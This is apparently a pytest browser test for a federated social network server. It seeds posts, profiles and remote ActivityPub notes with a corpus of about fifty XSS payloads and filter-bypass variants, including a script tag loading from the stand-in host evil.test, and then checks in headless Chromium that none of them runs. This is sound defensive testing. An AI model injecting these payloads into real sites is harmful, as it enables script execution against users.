"""No script from a post, a profile or a remote server ever runs in a reader's browser.

An XSS corpus is stored as remote content (Notes from a remote actor whose name and summary carry
payloads too, kept by ``store_remote_post`` as the inbox does) and as a resident's Markdown posts,
display name and bio. The pages that show them are rendered by a real ``quartiers serve`` in
headless Chromium: no dialog may open, the ``window.__xss`` sentinel every payload tries to set
must stay unset, and no script, event-handler attribute or script URL may reach the DOM.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import pytest
import pytest_asyncio

from actors.accounts import ProfileChange, update_profile
from actors.remote import store_remote_actor
from actors.services import create_account, create_group
from commons.posts.remote import store_remote_post
from commons.posts.services import publish_note
from config.uris import Uris
from federation.parsing import parse_actor, parse_object
from federation.vocab import PUBLIC
from storage.models import Account, Actor, Follow, Host
from storage.models.follows import ACCEPTED
from tests.browser.browser_support import (
    LiveInstance,
    launched_browser,
    new_context,
    prepare_instance,
    require_chromium,
)

if TYPE_CHECKING:
    from playwright.async_api import Browser, Page

pytestmark = pytest.mark.asyncio(loop_scope="module")

SET = "window.__xss=1"
REMOTE = "https://evil.test"
TABS = 4
PROBE = "xssprobe"
CORPUS = (
    f"<script>{SET}</script>",
    f"<SCRIPT>{SET}</SCRIPT>",
    "<script src=//evil.test/x.js></script>",
    f"<img src=x onerror={SET}>",
    f'<img src="x" onerror="{SET}">',
    "<img src=x onerror=alert(1)>",
    f"<svg onload={SET}>",
    f"<svg><script>{SET}</script></svg>",
    f"<body onload={SET}>",
    f'<a href="javascript:{SET}">clic</a>',
    f'<a href="jAvAsCrIpT:{SET}">clic</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:window.__xss=1">clic</a>',
    '<a href="&#x6A;avascript&colon;window.__xss=1">clic</a>',
    f'<a href="java\tscript:{SET}">clic</a>',
    f'<a href=" javascript:{SET}">clic</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">clic</a>',
    '<a href="vbscript:msgbox(1)">clic</a>',
    f'<iframe src="javascript:parent.{SET}"></iframe>',
    f'<iframe srcdoc="<script>parent.{SET}</script>"></iframe>',
    f'<object data="javascript:{SET}"></object>',
    f'<embed src="javascript:{SET}">',
    f'<style>@import "javascript:{SET}"; body {{ background: url("javascript:{SET}") }}</style>',
    f'<div style="width: expression({SET})">x</div>',
    f'"><script>{SET}</script>',
    f"'><img src=x onerror={SET}>",
    f"</textarea><script>{SET}</script>",
    f"</title><script>{SET}</script>",
    f"&lt;script&gt;{SET}&lt;/script&gt;",
    f"\uff1cscript\uff1e{SET}\uff1c/script\uff1e",
    f"<<script>script>{SET}<</script>/script>",
    f"<scr<script>ipt>{SET}</scr</script>ipt>",
    f"[clic](javascript:{SET})",
    f"[clic](JaVaScRiPt:{SET})",
    "[clic](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    f"![image](javascript:{SET})",
    f'![image](x" onerror="{SET})',
    f'[clic](https://ok.example "a" onclick="{SET}")',
    f'<noscript><p title="</noscript><img src=x onerror={SET}>">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={SET}>",
    f'<svg></p><style><a id="</style><img src=1 onerror={SET}>">',
    f'<form action="javascript:{SET}"><button>go</button></form>',
    f'<button formaction="javascript:{SET}">go</button>',
    f"<details open ontoggle={SET}>",
    f"<input autofocus onfocus={SET}>",
    f'<base href="javascript:{SET}//">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{SET}">',
    f'<a href="https://ok.example" onmouseover="{SET}">ok</a>',
    f"@<img src=x onerror={SET}>@evil.test",
    f"#<img src=x onerror={SET}>",
)

# Everything on a page that could run a script, as a list of findings.
DOM_FINDINGS = """() => {
  const found = [];
  const scriptUrl = (value) => {
    const v = value.replace(/[\\u0000-\\u0020]/g, '').toLowerCase();
    return v.startsWith('javascript:') || v.startsWith('vbscript:') || v.startsWith('data:text/html')
      || v.startsWith('data:image/svg');
  };
  for (const element of document.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on')) found.push(`${element.tagName} ${name}=${attribute.value}`);
      if (['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'srcdoc', 'poster',
           'background', 'content'].includes(name) && scriptUrl(attribute.value)) {
        found.push(`${element.tagName}.${element.className} ${name}=${attribute.value}`);
      }
      if (name === 'style' && /expression|javascript:|url\\(/i.test(attribute.value)) {
        found.push(`${element.tagName} style=${attribute.value}`);
      }
    }
  }
  for (const script of document.querySelectorAll('script')) {
    const src = script.getAttribute('src') || '';
    if (!src.startsWith('/static/') || script.textContent.includes('__xss')) {
      found.push(`SCRIPT ${src} ${script.textContent.slice(0, 60)}`);
    }
  }
  const dangerous = 'iframe, frame, frameset, object, embed, applet, base, meta[http-equiv], '
    + 'main svg, main math, main style, main link, main noscript, .post-body form, '
    + '.post-body input, .post-body button, .post-body textarea';
  // Our own pictograms (the easy-to-read switch and boxes): drawn paths, nothing else.
  const ownPictogram = (element) => element.matches('svg.falc-picto')
    && element.closest('.falc-switch, .falc-box') !== null
    && [...element.querySelectorAll('*')].every((part) => part.tagName.toLowerCase() === 'path'
      && [...part.attributes].every((attribute) => attribute.name === 'd'));
  for (const element of document.querySelectorAll(dangerous)) {
    if (ownPictogram(element)) continue;
    found.push(`<${element.tagName.toLowerCase()}> ${element.outerHTML.slice(0, 80)}`);
  }
  return found;
}"""


@dataclass(frozen=True)
class Stage:
    instance: LiveInstance
    reader: Account
    local_post_keys: list[str]
    remote_post_ids: list[int]


def remote_actor_document() -> dict[str, Any]:
    return {
        "id": f"{REMOTE}/users/mallory",
        "type": "Person",
        "preferredUsername": "mallory",
        "name": f'{PROBE} Mallory"><img src=x onerror={SET}><script>{SET}</script>',
        "summary": f'<p>{PROBE}</p><script>{SET}</script><img src=x onerror="{SET}">'
        f'<a href="javascript:{SET}">site</a>',
        "url": f"javascript:{SET}",
        "icon": {"type": "Image", "url": f"javascript:{SET}"},
        "inbox": f"{REMOTE}/users/mallory/inbox",
        "outbox": f"{REMOTE}/users/mallory/outbox",
        "followers": f"{REMOTE}/users/mallory/followers",
        "publicKey": {
            "id": f"{REMOTE}/users/mallory#main-key",
            "owner": f"{REMOTE}/users/mallory",
            "publicKeyPem": "-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----",
        },
    }


def remote_note(number: int, payload: str, audience: str) -> dict[str, Any]:
    return {
        "id": f"{REMOTE}/notes/{number}",
        "type": "Note",
        "attributedTo": f"{REMOTE}/users/mallory",
        "content": f"<p>{PROBE} {number}</p>{payload}",
        "summary": payload if number % 3 == 0 else None,
        "sensitive": number % 3 == 0,
        "url": f"javascript:{SET}",
        "inReplyTo": f"javascript:{SET}" if number % 2 else None,
        "to": [PUBLIC],
        "cc": [f"{REMOTE}/users/mallory/followers", audience],
        "tag": [{"type": "Hashtag", "name": f"#{PROBE}", "href": f"javascript:{SET}"}],
        "attachment": [
            {
                "type": "Image",
                "mediaType": "image/png",
                "url": f"javascript:{SET}",
                "name": payload,
            },
            {"type": "Image", "mediaType": "image/png", "url": f"{REMOTE}/x.png", "name": payload},
            {
                "type": "Document",
                "mediaType": "text/html",
                "url": f"{REMOTE}/x.html",
                "name": payload,
            },
        ],
    }


async def seed(instance: LiveInstance) -> Stage:
    """A reader whose name, bio and posts carry the corpus, following a remote actor (on a
    neighbour host) who posts it too, partly into a collective of ours."""
    settings = instance.settings()
    database = instance.database()
    local_keys: list[str] = []
    remote_ids: list[int] = []
    try:
        async with database.transaction() as session:
            account = await create_account(session, settings, "vera", "une phrase de passe")
            reader = await session.get(Actor, account.actor_id)
            assert reader is not None
            bio = "\n\n".join(CORPUS[:12])
            change = ProfileChange(
                name=f'{PROBE} Vera"><script>{SET}</script>',
                bio=bio,
                manually_approves_followers=False,
            )
            await update_profile(session, settings, reader, change)
            group = await create_group(session, settings, "atelier", "space", "vera")
            group.name = f"{PROBE} <img src=x onerror={SET}>"
            for number, payload in enumerate(CORPUS):
                post = await publish_note(
                    session, Uris(settings.base_url), reader, f"{PROBE} {number} {payload}"
                )
                local_keys.append(post.uri.rsplit("/", 1)[-1])
            mallory = await store_remote_actor(session, parse_actor(remote_actor_document()))
            session.add(Host(host="evil.test", is_neighbour=True))
            session.add(
                Follow(
                    uri=f"{reader.uri}#follow-mallory",
                    follower_id=reader.id,
                    followed_id=mallory.id,
                    state=ACCEPTED,
                )
            )
            for number, payload in enumerate(CORPUS):
                note = parse_object(remote_note(number, payload, group.uri))
                stored = await store_remote_post(
                    session, note, mallory, group if number % 2 else None
                )
                remote_ids.append(stored.id)
    finally:
        await database.dispose()
    return Stage(instance, account, local_keys, remote_ids)


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    require_chromium()
    instance = prepare_instance(tmp_path_factory.mktemp("xss"), "paquis")
    staged = asyncio.run(seed(instance))
    with instance.serving():
        yield staged


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser() -> AsyncIterator[Browser]:
    async with launched_browser(require_chromium()) as browser:
        yield browser


async def problems_on(page: Page, url: str, dialogs: list[str]) -> list[str]:
    """What could run a script on ``url``: a set sentinel, a dialog, or dangerous markup."""
    response = await page.goto(url)
    assert response is not None and response.status < 500, f"{url}: {response}"
    await page.wait_for_load_state("load")
    found: list[str] = sorted(set(await page.evaluate(DOM_FINDINGS)))
    if await page.evaluate("typeof window.__xss") != "undefined":
        found.insert(0, "A PAYLOAD RAN: window.__xss is set")
    if dialogs:
        found.insert(0, f"A DIALOG OPENED: {dialogs}")
        dialogs.clear()
    return found


async def visit(browser: Browser, stage: Stage, paths: list[str], *, logged_in: bool) -> None:
    """Open every path in one tab; fail once, listing every page with what it carries."""
    context = await new_context(browser)
    if logged_in:
        cookie = await stage.instance.session_cookie(stage.reader)
        await context.add_cookies([cookie])  # type: ignore[list-item]
    await context.route(
        "**/*",
        lambda route: (
            route.continue_()
            if route.request.url.startswith(stage.instance.base_url)
            else route.abort()
        ),
    )
    report: dict[str, list[str]] = {}

    async def tab(share: list[str]) -> None:
        page = await context.new_page()
        dialogs: list[str] = []

        async def dismiss(dialog: Any) -> None:
            dialogs.append(dialog.message)
            await dialog.dismiss()

        page.on("dialog", dismiss)
        for path in share:
            if found := await problems_on(page, stage.instance.url(path), dialogs):
                report[path] = found

    try:
        await asyncio.gather(*(tab(paths[start::TABS]) for start in range(TABS)))
    finally:
        await context.close()
    assert report == {}, "pages that could run a script:\n" + "\n".join(
        f"  {path}: {found}" for path, found in report.items()
    )


LISTS = ["/", "/local", "/city", f"/tags/{PROBE}", f"/search?q={PROBE}", "/@vera", "/@atelier"]


async def test_lists_and_profiles_are_harmless_to_a_visitor(browser: Browser, stage: Stage) -> None:
    await visit(browser, stage, LISTS, logged_in=False)


async def test_lists_and_profiles_are_harmless_to_the_reader(
    browser: Browser, stage: Stage
) -> None:
    paths = [*LISTS, "/home", "/notifications", "/settings", "/search?q=Mallory"]
    await visit(browser, stage, paths, logged_in=True)


async def test_every_post_page_is_harmless(browser: Browser, stage: Stage) -> None:
    paths = [f"/posts/{key}" for key in stage.local_post_keys]
    paths += [f"/posts/{number}" for number in stage.remote_post_ids]
    paths += [f"/posts/{key}/reply" for key in stage.local_post_keys[:3]]
    paths += [f"/posts/{number}/reply" for number in stage.remote_post_ids[:3]]
    await visit(browser, stage, paths, logged_in=True)


async def test_the_payloads_really_are_on_the_pages(browser: Browser, stage: Stage) -> None:
    """Guards the test itself: the corpus was stored and shown (as harmless text or markup)."""
    context = await new_context(browser)
    await context.add_cookies([await stage.instance.session_cookie(stage.reader)])  # type: ignore[list-item]
    page = await context.new_page()
    await page.goto(stage.instance.url("/home"))
    assert await page.locator(".post-body").count() >= 20
    assert await page.get_by_text(f"{PROBE} Mallory").count() >= 1
    await page.goto(stage.instance.url("/@vera"))
    assert await page.get_by_text(f"{PROBE} Vera").count() >= 1
    await context.close()
